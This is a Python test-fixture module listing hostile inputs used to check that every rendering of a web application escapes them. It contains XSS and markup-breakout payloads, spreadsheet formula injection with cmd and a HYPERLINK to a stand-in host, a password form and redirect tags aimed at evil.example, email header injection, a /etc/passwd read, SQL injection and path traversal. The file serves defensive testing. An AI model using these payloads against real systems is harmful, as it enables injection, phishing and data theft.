"""Hostile texts, each with a mark that is looked for in every rendering. A new one here is tried everywhere."""

from collections.abc import Iterable

MARK = "attacked"
BELL, NUL, ZERO_WIDTH = "\a", "\0", "\u200b"

SCRIPTS = {
    "script": f"<script>window.{MARK}=1</script>",
    "image": f'<img src=x onerror="window.{MARK}=1">',
    "svg": f"<svg/onload=window.{MARK}=1>",
    "out of an attribute": f'" autofocus onfocus="window.{MARK}=1" x="',
    "out of a quote": f"' onmouseover='window.{MARK}=1",
    "out of a textarea": f"</textarea><script>window.{MARK}=1</script>",
    "out of a title": f"</title></style></template><script>window.{MARK}=1</script>",
    "link in markdown": f"[click me](javascript:window.{MARK}=1)",
    "data in markdown": f"[click me](data:text/html,<script>window.{MARK}=1</script>)",
    "image in markdown": f"![x](https://evil.example/{MARK}.png)",
    "html in markdown": f'<a href="jav&#x09;ascript:window.{MARK}=1">x</a><iframe srcdoc="<script>window.{MARK}=1">',
    "htmx": f'<a hx-get="/" hx-trigger="load" hx-on:click="window.{MARK}=1">x</a>',
    "template": "{{ request.session.items }}{% load static %}{% debug %}",
    "meta": f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}"><base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "style": f'<style>*{{background:url(https://evil.example/{MARK})}}</style><p style="position:fixed">x</p>',
}
FORMULAS = {
    "equals": f'=HYPERLINK("https://evil.example/{MARK}","x")',
    "plus": f"+cmd|'/c {MARK}'!A1",
    "minus": f"-2+3+cmd|'{MARK}'!A1",
    "at": f"@SUM({MARK})",
    "tab": f"\t=1+1 {MARK}",
    "return": f"\r=1+1 {MARK}",
}
LINES = {
    "calendar": f"Talk\r\nATTENDEE:mailto:evil@evil.example\r\nX-{MARK.upper()}:1\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "header": f"Hello\r\nBcc: evil@evil.example\r\nX-{MARK.upper()}: 1\r\n\r\n<b>body</b>",
    "header, one sign": f"Hello\nBcc: evil@evil.example\u2028X-{MARK.upper()}: 1\x85Bcc: evil@evil.example",
    "encoded": "Hello =?utf-8?q?=0D=0ABcc=3A_evil=40evil.example?=",
}
PAPER = {
    "typst": '#read("/etc/passwd") #image("x.png") #eval("1+1") $ x $ @ref <label> *bold* _it_ `raw` // gone',
    "typst, unclosed": '#{ ["\\u{0}" #let x = [',
}
LETTERS = {
    "turned round": "abc\u202egpj.exe\u2066\u2067\u2069 end",
    "astral": "𝕬𝖑𝖔𝖓𝖌 👩🏽‍🚒 🇪🇺 \U0010ffff",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "nothing to see": f"{ZERO_WIDTH * 5}\u00ad\u2060",
    "zero": f"before{NUL}after",
    "controls": f"before{BELL}\x1b[31mafter\x7f\x80",
    "half a sign": "before\ud800after",
    "long": "very long " * 1_000,
    "long word": "x" * 9_000,
    "quotes": "'; drop table people_person; -- \\' \" ` ${7*7} %s %(name)s {0} \\",
    "paths": "../../../../etc/passwd\\..\\..\\windows%2e%2e%2f",
}
HOSTILE = SCRIPTS | FORMULAS | LINES | PAPER | LETTERS
STORABLE = {name: text for name, text in HOSTILE.items() if NUL not in text and "\ud800" not in text}


def some(texts: Iterable[str], together: int) -> list[list[str]]:
    """Their names, so many at a time."""
    names = list(texts)
    return [names[n : n + together] for n in range(0, len(names), together)]
